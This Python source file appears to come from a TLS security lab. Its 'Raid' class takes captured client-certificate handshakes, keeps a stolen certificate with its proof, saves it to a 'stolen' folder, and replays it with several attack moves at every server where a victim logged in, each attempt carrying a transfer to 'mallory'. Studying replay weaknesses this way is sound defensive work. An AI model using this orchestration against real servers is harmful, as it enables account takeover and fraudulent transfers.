"""The raid: from what was captured to attempts at every gateway where a victim was seen to log in."""

import asyncio
import re
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from attacker.handshake import Capture
from attacker.moves import MOVES, Loot, Move
from attacker.replay import Transfer, attempt
from lab.events import CertificateCaptured, Reporter, Trouble
from lab.tls.messages import serialize

TRANSFER = Transfer("mallory", 100)
STOLEN_FOLDER = "stolen"
MAX_SEEN = 10_000

Way = Callable[[str], tuple[str, int]]
"""From a server's address as it was seen on the wire, `host:port`, to where the attacker reaches that server."""


class Raid:
    """Takes captures as they come, keeps the first certificate that came with its proof, and tries it at every server.

    `way` leads to the servers, `source` says how the attacker came to see the wire. What happens is reported, and the
    certificate is kept in `folder`/stolen.
    """

    def __init__(self, reporter: Reporter, folder: Path, source: str, way: Way) -> None:
        self._reporter = reporter
        self._folder = folder / STOLEN_FOLDER
        self._source = source
        self._way = way
        self._loot: Loot | None = None
        self._reported: set[tuple[str, str]] = set()
        self._untried: dict[str, str] = {}
        self._tried: set[str] = set()
        self._tasks: set[asyncio.Task[None]] = set()

    def take(self, capture: Capture) -> None:
        """Works on one capture; the attempts run in the background of the running loop."""
        if not capture.chain or len(self._reported) > MAX_SEEN:
            return
        try:
            certificate = x509.load_der_x509_certificate(capture.chain[0])
        except ValueError as error:
            self._reporter.report(Trouble(f"{capture.client} presented no readable certificate: {error}"))
            return
        if self._loot is None and capture.certificate_verify is not None:
            self._loot = Loot(capture.chain, capture.certificate_verify)
            self._keep(certificate)
        self._report(capture, certificate)
        if capture.server not in self._tried:
            self._untried[capture.server] = capture.server_name or capture.server.rpartition(":")[0]
        if self._loot:
            for server, name in self._untried.items():
                self._start(self._try_moves(self._loot, server, name))
            self._tried |= self._untried.keys()
            self._untried.clear()

    async def close(self) -> None:
        """Breaks off what is still going on."""
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _try_moves(self, loot: Loot, server: str, name: str) -> None:
        """All moves at once, against one server; each is reported when its verdict is in."""

        async def try_one(move: Move) -> None:
            target = self._way(server)
            self._reporter.report(await attempt(move.id, target, name, loot.chain, move.prover(loot), TRANSFER))

        await asyncio.gather(*map(try_one, MOVES))

    def _start(self, work: Coroutine[Any, Any, None]) -> None:
        task = asyncio.create_task(work)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    def _report(self, capture: Capture, certificate: x509.Certificate) -> None:
        """The first sight of a certificate at a server."""
        sha256 = certificate.fingerprint(hashes.SHA256()).hex()
        if (sha256, capture.server) in self._reported:
            return
        self._reported.add((sha256, capture.server))
        proof = capture.certificate_verify
        self._reporter.report(
            CertificateCaptured(
                client=capture.client,
                server=capture.server,
                tls=version_name(capture.version),
                subject=certificate.subject.rfc4514_string(),
                issuer=certificate.issuer.rfc4514_string(),
                sha256=sha256,
                record=capture.record_header.hex(),
                message=capture.certificate_message.hex(),
                proof=serialize(proof).hex() if proof else None,
                client_random=(capture.client_random or b"").hex(),
                server_random=(capture.server_random or b"").hex(),
                source=self._source,
                note=capture.note,
            )
        )

    def _keep(self, certificate: x509.Certificate) -> None:
        names = certificate.subject.get_attributes_for_oid(NameOID.COMMON_NAME)
        name = re.sub(r"[^A-Za-z0-9._-]", "_", str(names[0].value) if names else "") or "certificate"
        self._folder.mkdir(parents=True, exist_ok=True)
        (self._folder / f"{name}.pem").write_bytes(certificate.public_bytes(Encoding.PEM))


def version_name(version: int | None) -> str:
    """`1.2` for 0x0303 (RFC 5246 section 6.2.1)."""
    return "unknown" if version is None else f"1.{(version & 0xFF) - 1}"
